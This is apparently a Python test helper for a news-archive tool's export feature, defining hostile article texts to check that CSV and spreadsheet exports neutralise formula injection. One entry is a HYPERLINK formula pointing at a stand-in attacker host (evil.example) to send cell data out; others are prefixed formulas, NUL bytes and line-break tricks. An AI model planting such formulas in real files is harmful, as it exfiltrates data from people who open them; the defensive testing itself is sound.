"""What tests of exports share: hostile articles, and an export as the command makes it."""

from pathlib import Path

from newsarchive.analyse.export import Export, Tally, export, format_of
from newsarchive.analyse.selection import Selection
from newsarchive.archive import Archive
from newsarchive.article import Article, Image

HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Körpü")',
    "plus": "+994 12 555 00 00",
    "minus": "-1+2",
    "at": "@SUM(A1)",
    "wide": "＝1＋1",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "space": "  =1+1",
    "apostrophe": "'Bakı' açıldı",
    "nul": "Kör\0pü",
    "lines": 'bir\r\n"iki", üç\n\n=dörd;beş',
    "letters": "ƏĞIİÖŞÇ əğıiöşç Ёё 🌊",
    "empty": "",
}


def add_hostile(archive: Archive) -> None:
    """Save an article for each hostile text, with the text in every kind of column."""
    for number, (name, text) in enumerate(HOSTILE.items()):
        archive.save(
            Article(
                source="xeber",
                url=f"https://xeber.example/hostile/{number}",
                title=text or None,
                text=text,
                authors=(text,),
                images=(Image("https://xeber.example/1.jpg", caption=text),),
                section=name,
            )
        )


def take(
    archive: Archive, path: Path, *, names: tuple[str, ...] | None = None, **options: object
) -> Tally:
    """Export an archive to a file as its name says."""
    wanted = options.pop("wanted", Selection())
    chosen, packing = format_of(str(path), None)
    columns = {"names": names} if names else {}
    order = Export(  # type: ignore[arg-type]
        wanted=wanted,
        file=str(path),
        format=chosen,
        packing=packing,
        captures=archive.path.parent / "captures",
        **columns,
        **options,
    )
    return export(archive, order, progress=lambda _: None)
